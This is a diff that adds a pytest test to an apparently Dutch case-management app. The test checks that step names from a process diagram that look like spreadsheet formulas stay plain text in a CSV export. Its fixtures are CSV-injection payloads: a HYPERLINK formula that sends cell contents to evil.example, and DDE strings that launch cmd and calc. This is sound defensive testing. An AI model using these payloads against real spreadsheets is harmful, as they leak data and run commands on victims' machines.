@@ -379,3 +379,43 @@ def test_the_default_period_is_this_year_and_english_reads_english(ui_app, sqlit
         assert dutch not in pdf
     assert rows[0] == ["onderdeel", "sleutel", "maat", "waarde", "omschrijving"]  # codes stay
     assert dutch_in(" | ".join(r[4] for r in rows[1:])) == []
+
+
+def test_a_step_name_that_reads_as_a_formula_stays_text_in_the_csv(ui_app, sqlite_people,
+                                                                     monkeypatch):
+    """The CSV's descriptions start with a step's name as the procesbeheerder wrote it in the
+    diagram: a name starting with = + - or @ would be a formula in a spreadsheet (CSV
+    injection). Such a cell gets a leading apostrophe; the codes and numbers stay as they are,
+    and the page shows the name as written."""
+    from lxml import etree
+    from markupsafe import escape
+
+    from engine import definitions
+    from tests.helpers import store_version
+
+    files = definitions.shipped_files()
+    bpmn = next(f for f in files if f.kind == "bpmn")
+    root = etree.fromstring(bpmn.content)
+    names = {"stap1_signalen": '=HYPERLINK("https://evil.example/?"&A1;"klik")',
+             "stap2_overleg": "+1+cmd|' /C calc'!A0", "stap3_gesprek": "@SUM(1+1)*cmd|' /C calc'!A0",
+             "stap4_wegen": "-2+3"}
+    for step, name in names.items():
+        root.xpath(f"//*[@id='{step}']")[0].set("name", name)
+    content = etree.tostring(root, xml_declaration=True, encoding="UTF-8")
+    store_version([type(bpmn)(bpmn.name, content) if f is bpmn else f for f in files],
+                  monkeypatch)
+    walk_case(sqlite_people, "F-1", clock.now() - dt.timedelta(days=2),
+              BY_NAME["geen_hulp_mogelijk_melden"].decisions, [1, 1, 1, 1, 1],
+              stop_at="stap5_beslissen")
+    c = signed_in(ui_app, "aud")
+    rows = list(csv.reader(io.StringIO(
+        c.http.get("/toezicht.csv").get_data().decode("utf-8-sig")), delimiter=";"))
+    described = {(r[0], r[1], r[2]): r[4] for r in rows[1:]}
+    for step, name in names.items():
+        assert described[("route", step, "bereikt")] == \
+            f"'{name}: casussen die deze stap bereikten", step
+        assert described[("stap_duur", step, "afgerond")].startswith(f"'{name}:"), step
+    formula = [r for r in rows if any(v.startswith(("=", "+", "-", "@")) for v in r)]
+    assert formula == []
+    assert [r[3] for r in rows if r[:3] == ["route", "stap1_signalen", "bereikt"]] == ["1"]
+    assert str(escape(names["stap1_signalen"])) in text(c.get("/toezicht"))  # as written
